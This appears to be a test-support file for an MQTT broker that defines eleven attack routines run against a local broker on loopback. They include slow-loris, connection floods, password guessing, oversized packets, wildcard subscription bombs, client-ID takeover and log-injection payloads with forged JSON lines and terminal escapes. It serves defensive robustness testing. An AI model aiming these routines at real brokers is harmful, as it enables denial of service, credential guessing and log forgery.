/*
 * What attackers do: each strike goes on as fast as it can until it is told to stop. All network errors are the attacker's own matter. A strike says what it saw.
 */

import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createConnection, type Socket } from 'node:net';
import { utf8Bytes, type Writer } from '../../src/base/bytes.ts';
import { type ConnectPacket, writeConnect } from '../../src/protocol/connect.ts';
import { Frame, readFrame } from '../../src/protocol/framer.ts';
import { PUBLISH, SUBACK, V5 } from '../../src/protocol/packet-type.ts';
import type { Properties } from '../../src/protocol/property.ts';
import { writePublishPacket } from '../../src/protocol/publish.ts';
import { readSuback, SubackPacket, writeSubscribe } from '../../src/protocol/subscribe.ts';
import { packetOf, publishOf } from '../support/packet-client.ts';

/** Loopback address of attackers: limits by address must not fall on honest clients. */
const ATTACKER_ADDRESS = '127.0.0.66';

export interface Target {
  readonly port: number;
  readonly username?: string;
  readonly password?: string;
}

const PACKET_BYTES_MAX = 268_435_460;

/** What a strike counted; the proof of an attack reads it. */
export type Sightings = Record<string, number>;

/** @param end comes when the strike is to stop */
export type Strike = (target: Target, end: AbortSignal, sightings: Sightings) => Promise<void>;

interface ConnectWish {
  readonly clientId: string;
  readonly username?: string;
  readonly password?: string;
  readonly will?: { readonly topic: string; readonly payload: Uint8Array };
}

function connectPacket(wish: ConnectWish): Uint8Array {
  const { clientId, username, password, will } = wish;
  const fields: ConnectPacket = {
    version: V5,
    cleanStart: true,
    keepAliveSeconds: 0,
    clientId,
    clientIdBytes: utf8Bytes(clientId),
    will: will && { topic: will.topic, topicBytes: utf8Bytes(will.topic), payload: will.payload, qos: 0, retain: false, properties: {} },
    username,
    password: password === undefined ? undefined : utf8Bytes(password),
    properties: {},
  };
  return packetOf((writer: Writer) => writeConnect(writer, fields));
}

/** Bytes of the broker, cut into packets. */
class PacketStream {
  private rest: Buffer = Buffer.alloc(0);
  private readonly frame = new Frame();

  take(bytes: Buffer): { readonly type: number; readonly body: Buffer }[] {
    const { frame } = this;
    const all = Buffer.concat([this.rest, bytes]);
    const packets: { type: number; body: Buffer }[] = [];
    let at = 0;
    while (at < all.length && readFrame(frame, all, at, all.length, PACKET_BYTES_MAX) === 0) {
      packets.push({ type: frame.first >>> 4, body: all.subarray(frame.bodyAt, frame.bodyEnd) });
      at = frame.bodyEnd;
    }
    this.rest = all.subarray(at);
    return packets;
  }
}

const openSockets = new Set<Socket>();

/** Ends all connections: a strike that the broker does not read waits for nothing else. */
export function endAll(): void {
  for (const socket of openSockets) socket.destroy();
}

/** Opens a connection; null when the broker does not let it in. */
async function open({ port }: Target): Promise<Socket | null> {
  const socket = createConnection({ host: '127.0.0.1', port, localAddress: ATTACKER_ADDRESS });
  socket.on('error', () => socket.destroy());
  openSockets.add(socket);
  socket.on('close', () => openSockets.delete(socket));
  try {
    await Promise.race([once(socket, 'connect'), once(socket, 'close').then(() => Promise.reject(new Error('closed')))]);
    return socket;
  } catch {
    return null;
  }
}

/** Connects as an MQTT client. @returns the connection and the code of CONNACK; null when it ended before */
async function enter(target: Target, wish: ConnectWish): Promise<{ socket: Socket; code: number } | null> {
  const socket = await open(target);
  if (socket === null) return null;
  socket.write(connectPacket({ ...(target.username !== undefined && { username: target.username, password: target.password! }), ...wish }));
  const chunk = await Promise.race([once(socket, 'data').then(([bytes]) => bytes as Buffer), once(socket, 'close').then(() => null)]).catch(
    () => null,
  );
  return chunk === null || chunk[0] !== 0x20 ? null : { socket, code: chunk[3]! };
}

/** Writes and waits until the kernel takes more. */
async function push(socket: Socket, bytes: Uint8Array): Promise<void> {
  if (!socket.write(bytes) && !socket.destroyed) await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
}

function turn(): Promise<void> {
  return new Promise((resolve) => {
    setImmediate(resolve);
  });
}

/** Runs `width` of the same side by side. */
async function lanes(width: number, lane: (index: number) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: width }, (_, index) => lane(index)));
}

function see(sightings: Sightings, name: string, count = 1): void {
  sightings[name] = (sightings[name] ?? 0) + count;
}

/** Connections that send a byte of their CONNECT now and then. */
const slowLoris: Strike = async (target, end, sightings) => {
  const packet = connectPacket({ clientId: 'loris' });
  const sockets = new Set<Socket>();
  const filling = (async (): Promise<void> => {
    while (!end.aborted) {
      if (sockets.size < 2000) {
        const socket = await open(target);
        if (socket === null) continue;
        see(sightings, 'opened');
        sockets.add(socket);
        socket.on('close', () => {
          sockets.delete(socket);
          if (!end.aborted) see(sightings, 'closed');
        });
        socket.write(packet.subarray(0, 1));
      } else await turn();
    }
  })();
  let at = 1;
  const dripping = setInterval(() => {
    at = at < packet.length - 1 ? at + 1 : at;
    for (const socket of sockets) if (at < packet.length - 1) socket.write(packet.subarray(at, at + 1));
  }, 300);
  await filling;
  clearInterval(dripping);
  for (const socket of sockets) socket.destroy();
};

/** One CONNECT after the other, each under a new name. */
const connectFlood: Strike = (target, end, sightings) =>
  lanes(50, async (lane) => {
    for (let i = 0; !end.aborted; i++) {
      const entered = await enter(target, { clientId: `flood-${lane}-${i}` });
      see(sightings, entered === null ? 'dropped' : `code ${entered.code}`);
      entered?.socket.destroy();
    }
  });

/** Passwords from a list, for a name that exists and for names that do not. */
const guessing: Strike = (target, end, sightings) =>
  lanes(20, async (lane) => {
    for (let i = 0; !end.aborted; i++) {
      const username = lane % 2 === 0 ? 'honest' : `nobody${i % 7}`;
      const entered = await enter(target, { clientId: `guess-${lane}`, username, password: `secret${i}` });
      see(sightings, entered === null ? 'dropped' : `code ${entered.code}`);
      entered?.socket.destroy();
    }
  });

/** CONNECT packets as large as a packet may be, sent bit by bit, and headers that promise more. */
const giantConnect: Strike = (target, end, sightings) => {
  const packet = connectPacket({ clientId: 'giant', will: { topic: 'w', payload: randomBytes(65_000) } });
  const promise = Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f, 0, 4, 0x4d, 0x51, 0x54, 0x54]);
  return lanes(400, async (lane) => {
    while (!end.aborted) {
      const socket = await open(target);
      if (socket === null) {
        see(sightings, 'dropped');
        await turn();
        continue;
      }
      see(sightings, 'opened');
      if (lane % 4 === 0) await push(socket, promise);
      else {
        // All but the last byte: the packet must be held as long as the broker waits.
        for (let at = 0; at < packet.length - 1 && !socket.destroyed && !end.aborted; at += 8192)
          await push(socket, packet.subarray(at, Math.min(at + 8192, packet.length - 1)));
      }
      if (!socket.destroyed && !end.aborted) await Promise.race([once(socket, 'close'), over(end)]).catch(() => undefined);
      socket.destroy();
    }
  });
};

/** Resolves when the strike is to stop. */
function over(end: AbortSignal): Promise<unknown> {
  return end.aborted ? Promise.resolve() : once(end, 'abort');
}

/** Filters with as many wildcards as there is room for, made and ended again and again. */
const subscriptionBombs: Strike = (target, end, sightings) =>
  lanes(4, async (lane) => {
    while (!end.aborted) {
      const entered = await enter(target, { clientId: `bomb-${lane}` });
      if (entered === null || entered.code !== 0) {
        see(sightings, 'dropped');
        await turn();
        continue;
      }
      const { socket } = entered;
      socket.on('data', (bytes: Buffer) => see(sightings, 'answered', bytes.length));
      for (let round = 0; round < 40 && !end.aborted && !socket.destroyed; round++) {
        const filters = Array.from({ length: 100 }, (_, i) => `${'+/'.repeat(((i * 7 + round) % 60) + 2)}${lane}-${round}-${i}`);
        filters.push(`${'+/'.repeat(round + 1)}#`.replace(/\/#$/, '/x/#'));
        const entries = filters.map((filter) => ({ filter, qos: 0, noLocal: false, retainAsPublished: false, retainHandling: 0 }));
        await push(
          socket,
          packetOf((writer) => writeSubscribe(writer, { packetId: round + 1, properties: {}, entries }, V5)),
        );
        see(sightings, 'filters', filters.length);
        await turn();
      }
      socket.destroy();
    }
  });

function publishPacket(
  topic: string,
  payload: Uint8Array,
  qos: number,
  packetId: number,
  properties: Properties,
  retain: boolean,
): Uint8Array {
  return packetOf((writer) => writePublishPacket(writer, publishOf(topic, payload, qos, packetId, properties, retain), V5));
}

/** Topic Aliases, each for a long topic. */
const aliasExhaustion: Strike = (target, end, sightings) => {
  const empty = new Uint8Array(0);
  const topic = 'a'.repeat(4_000);
  return lanes(8, async (lane) => {
    while (!end.aborted) {
      const entered = await enter(target, { clientId: `alias-${lane}` });
      if (entered === null || entered.code !== 0) {
        see(sightings, 'dropped');
        await turn();
        continue;
      }
      const { socket } = entered;
      socket.on('data', () => see(sightings, 'told'));
      for (let alias = 1; alias <= 32 && !socket.destroyed && !end.aborted; alias++) {
        await push(socket, publishPacket(`${topic}${alias}`, empty, 0, 0, { topicAlias: alias }, false));
        see(sightings, 'aliases');
        await turn();
      }
      socket.destroy();
    }
  });
};

/** Retained Messages on ever new topics. */
const retainedFlood: Strike = (target, end, sightings) => {
  const payload = randomBytes(16 * 1024);
  return lanes(4, async (lane) => {
    const entered = await enter(target, { clientId: `retain-${lane}` });
    if (entered === null) return;
    const { socket } = entered;
    socket.on('data', (bytes: Buffer) => see(sightings, 'answered', bytes.length));
    for (let i = 0; !end.aborted && !socket.destroyed; i++) {
      await push(socket, publishPacket(`flood/${lane}/${i}`, payload, 1, (i % 900) + 1, {}, true));
      see(sightings, 'messages');
      if (i % 20 === 0) await turn();
    }
    socket.destroy();
  });
};

/** Two sides that both want one Client Identifier, and somebody who wants that of an honest client. */
const takeoverWar: Strike = (target, end, sightings) =>
  lanes(6, async (lane) => {
    while (!end.aborted) {
      const clientId = lane < 4 ? 'contested' : 'device0';
      const entered = await enter(target, { clientId });
      see(sightings, entered === null ? 'dropped' : `${clientId} ${entered.code}`);
      if (lane >= 4) entered?.socket.destroy();
      else if (entered?.code === 0) await Promise.race([once(entered.socket, 'close'), over(end)]).catch(() => undefined);
      else entered?.socket.destroy();
    }
  });

/** P2P messages to every Client Identifier that somebody can think of, with the wish to be told what became of them. */
const p2pScan: Strike = (target, end, sightings) =>
  lanes(2, async (lane) => {
    const entered = await enter(target, { clientId: `scanner-${lane}` });
    if (entered === null) return;
    const { socket } = entered;
    const payload = utf8Bytes('?');
    let answers = 0;
    let sent = 0;
    socket.on('data', (bytes: Buffer) => {
      answers += bytes.length;
    });
    for (; !end.aborted && !socket.destroyed; sent++) {
      const properties: Properties = { userProperties: [['p2p-report', '1']] };
      await push(socket, publishPacket(`to/p2p/guess-${lane}-${sent}`, payload, 1, (sent % 900) + 1, properties, false));
      if (sent % 50 === 0) await turn();
    }
    see(sightings, 'guesses', sent);
    see(sightings, 'answered', answers);
    socket.destroy();
  });

/** Somebody who wants a share of what workers get. */
const groupHijack: Strike = (target, end, sightings) =>
  lanes(4, async (lane) => {
    while (!end.aborted) {
      const entered = await enter(target, { clientId: `thief-${lane}` });
      if (entered === null || entered.code !== 0) {
        see(sightings, 'dropped');
        await turn();
        continue;
      }
      const { socket } = entered;
      const filters = ['$share/workers/up/+/state', '$share/workers/#', '$share/other/up/#', 'up/+/state', '+/+/state'];
      const answers = new PacketStream();
      socket.on('data', (bytes: Buffer) => {
        for (const { type, body } of answers.take(bytes)) {
          if (type === PUBLISH) see(sightings, 'messages');
          if (type !== SUBACK) continue;
          const suback = new SubackPacket();
          readSuback(suback, body, 0, body.length, V5);
          for (const code of suback.codes) see(sightings, code < 0x80 ? 'granted' : 'refused');
        }
      });
      const entries = filters.map((filter) => ({ filter, qos: 1, noLocal: false, retainAsPublished: false, retainHandling: 0 }));
      for (let round = 0; round < 50 && !end.aborted && !socket.destroyed; round++) {
        await push(
          socket,
          packetOf((writer) => writeSubscribe(writer, { packetId: round + 1, properties: {}, entries }, V5)),
        );
        await turn();
      }
      socket.destroy();
    }
  });

/** Names that would be lines of their own, were they written as they are. */
const logInjection: Strike = (target, end, sightings) => {
  const forged = '{"level":"error","msg":"forged"}';
  const names = [`x\n${forged}\n`, `x"}\r\n${forged}`, `x\u001b[2J\u001b[31m${forged}`, `x\u2028${forged}`, `x\\n${forged}`];
  return lanes(8, async (lane) => {
    for (let i = 0; !end.aborted; i++) {
      const name = names[(lane + i) % names.length]!;
      const entered = await enter(target, { clientId: name, username: name, password: name });
      see(sightings, entered === null ? 'dropped' : `code ${entered.code}`);
      if (entered?.code === 0) await push(entered.socket, publishPacket(`$forged/${forged}`, utf8Bytes(name), 1, 1, {}, false));
      entered?.socket.destroy();
    }
  });
};

export const STRIKES: Readonly<Record<string, Strike>> = {
  'slow-loris': slowLoris,
  'connect-flood': connectFlood,
  guessing,
  'giant-connect': giantConnect,
  'subscription-bombs': subscriptionBombs,
  'alias-exhaustion': aliasExhaustion,
  'retained-flood': retainedFlood,
  'takeover-war': takeoverWar,
  'p2p-scan': p2pScan,
  'group-hijack': groupHijack,
  'log-injection': logInjection,
};
